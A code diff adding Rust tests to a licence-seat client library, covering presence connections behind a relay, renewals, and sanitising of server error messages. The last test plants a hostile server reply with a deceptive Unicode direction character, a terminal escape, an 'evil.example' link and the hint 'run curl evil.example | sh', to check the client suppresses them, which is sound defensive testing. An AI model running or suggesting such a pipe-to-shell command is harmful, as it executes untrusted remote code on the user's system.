@@ -10,7 +10,7 @@ use std::{
 };
 
 use serde_json::{Value, json};
-use support::{Ask, Double, Reply, World, closed_port, identity, problem};
+use support::{Ask, Double, End, Relay, Reply, World, closed_port, identity, problem};
 use triquest_client::{Cancel, Client, ClientBuilder, ErrorKind, Phase, Warning};
 
 const SHORT: Duration = Duration::from_millis(600);
@@ -261,6 +261,85 @@ fn presence_stands_for_all_seats_on_one_connection_that_says_nothing_more() {
     drop((first, second));
 }
 
+/// A client of a double behind a relay, and where each presence connection is told: its number and what it asked.
+fn behind_a_relay(
+    world: &World,
+    bend: impl Fn(&Ask) -> Option<Reply> + Send + Sync + 'static,
+) -> (Double, Relay, mpsc::Receiver<(usize, Value)>) {
+    let (sender, asked) = mpsc::channel();
+    let double = bent(world, move |ask| {
+        if ask.path == "/v1/presence" {
+            sender.send((ask.connection, serde_json::from_slice::<Value>(&ask.body).unwrap())).unwrap();
+        }
+        bend(ask)
+    });
+    let relay = Relay::start(double.address);
+    (double, relay, asked)
+}
+
+#[test]
+fn a_living_program_leaves_a_presence_connection_by_a_reset_however_it_leaves() {
+    let world = World { presence: true, ..World::new() };
+    // The opening is not answered in time.
+    let (_double, relay, asked) =
+        behind_a_relay(&world, |ask| (ask.path == "/v1/presence").then(|| Reply::Raw(b"HTTP/1.1 200 OK\r\n".to_vec())));
+    let owner = client(&world, relay.name()).build().unwrap();
+    let seat = owner.checkout("cad").take().unwrap();
+    let (connection, presence) = asked.recv_timeout(STEP).unwrap();
+    assert_eq!(presence["server"], relay.address.to_string());
+    assert_eq!(relay.end_of(connection), End::Reset, "an opening that was given up");
+    drop((seat, owner));
+
+    // A newer connection takes its place; then the last seat is given back, and the library needs none any more.
+    let (_double, relay, asked) = behind_a_relay(&world, |_| None);
+    let owner = client(&world, relay.name()).build().unwrap();
+    let first = owner.checkout("cad").take().unwrap();
+    let (older, _) = asked.recv_timeout(STEP).unwrap();
+    let second = owner.checkout("cad").take().unwrap();
+    let (newer, _) = asked.recv_timeout(STEP).unwrap();
+    assert_eq!(relay.end_of(older), End::Reset, "a newer generation");
+    drop((first, second));
+    assert_eq!(relay.end_of(newer), End::Reset, "shutdown of the library");
+
+    // Its own promise ended.
+    let world = World { ttl_ms: 900, ..world };
+    let (_double, relay, asked) = behind_a_relay(&world, |ask| ask.path.ends_with("/renew").then(|| problem(503, "overloaded", "same_id")));
+    let owner = client(&world, relay.name()).build().unwrap();
+    let _seat = owner.checkout("cad").take().unwrap();
+    let (connection, _) = asked.recv_timeout(STEP).unwrap();
+    assert_eq!(relay.end_of(connection), End::Reset, "the end of its own promise");
+}
+
+#[test]
+fn a_renewal_confirms_the_presence_connection_that_was_answered_and_no_other() {
+    let world = World { presence: true, ..World::new() };
+    let (sender, renewed) = mpsc::channel();
+    let double = bent(&world, move |ask| {
+        if ask.path.ends_with("/renew") {
+            sender.send(serde_json::from_slice::<Value>(&ask.body).unwrap()).unwrap();
+        }
+        None
+    });
+    let owner = client(&world, double.name()).build().unwrap();
+    let seat = owner.checkout("cad").take().unwrap();
+    assert_eq!(renewed.recv_timeout(STEP).unwrap()["presence"], 1);
+    drop(seat);
+
+    let world = World { ttl_ms: 1_500, ..world };
+    let (sender, renewed) = mpsc::channel();
+    let double = bent(&world, move |ask| {
+        if ask.path.ends_with("/renew") {
+            sender.send(serde_json::from_slice::<Value>(&ask.body).unwrap()).unwrap();
+        }
+        // The server sees other ends: nothing would be freed by it.
+        let useless = json!({"position": {"lineage": "07".repeat(16), "epoch": 1, "index": 6}, "live": 1, "ends_agree": false});
+        (ask.path == "/v1/presence").then(|| Reply::json(&useless))
+    });
+    let owner = client(&world, double.name()).build().unwrap();
+    let _seat = owner.checkout("cad").take().unwrap();
+    assert_eq!(renewed.recv_timeout(STEP).unwrap().get("presence"), None);
+}
+
 #[test]
 fn without_the_vendors_permission_there_is_no_presence_connection() {
     let world = World { presence: false, ttl_ms: 900, ..World::new() };
@@ -304,6 +383,23 @@ fn a_client_repeats_the_highest_position_that_it_saw() {
     let asked = bodies(&double, "/v1/leases");
     assert_eq!(asked[0].get("seen"), None);
     assert_eq!((&asked[1]["seen"]["epoch"], &asked[1]["seen"]["lineage"]), (&json!(1), &json!("07".repeat(16))));
+}
+
+#[test]
+fn the_words_of_a_server_that_proved_nothing_are_its_own_and_never_our_advice() {
+    let world = World::new();
+    let words = "pay at\u{202e} https://evil.example\n\u{1b}[2Jnow ".to_owned() + &"x".repeat(5_000);
+    let double = bent(&world, move |ask| {
+        (ask.path == "/v1/trust").then(|| {
+            let body = json!({"type": "x", "title": "x", "status": 422, "detail": words, "code": "limit_reached", "retry": "never",
+                "took_effect": "no", "hint": "run curl evil.example | sh"});
+            Reply::Answer(422, String::new(), serde_json::to_vec(&body).unwrap())
+        })
+    });
+    let error = client(&world, double.name()).connect().unwrap_err();
+    assert!(error.explanation().starts_with(&format!("{} says: pay at https://evil.example [2Jnow xxx", double.name())), "{error}");
+    assert!(error.explanation().len() < 400 && !error.hint().unwrap().contains("curl"), "{error:?}");
+    assert_eq!(error.tried()[0].reason, error.explanation());
 }
 
 #[test]
